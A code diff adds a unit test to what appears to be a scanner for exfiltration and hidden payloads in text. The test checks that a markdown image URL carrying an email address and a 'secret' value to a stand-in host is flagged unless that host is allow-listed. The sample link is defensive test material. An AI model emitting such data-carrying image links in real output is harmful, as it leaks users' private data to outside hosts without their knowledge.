@@ -187,3 +187,12 @@ test("a base64 payload whose '+' and '/' cut it into short words is still decode
   assert.equal(hidden.location.start, text.indexOf(payload));
   assert.ok(hidden.location.end >= text.length - 2, "the finding covers the run");
 });
+
+test("a URL carrying data to an allow-listed host (or a subdomain of it) is no exfiltration; to any other host it is", () => {
+  const text = "![chart](https://stats.contoso.example/c.png?user=jane.doe%40contoso.example&q=secret)";
+  const exfil = (allowedHosts?: string[]) =>
+    screenTexts([{ field: "d", kind: "document", text }], allowedHosts ? { allowedHosts } : {}).findings.filter((f) => f.category === "exfiltration").map((f) => f.rule);
+  assert.ok(exfil().includes("exfil.markdown_data_url"));
+  assert.deepEqual(exfil(["contoso.example"]), []);
+  assert.ok(exfil(["fabrikam.example"]).length > 0);
+});
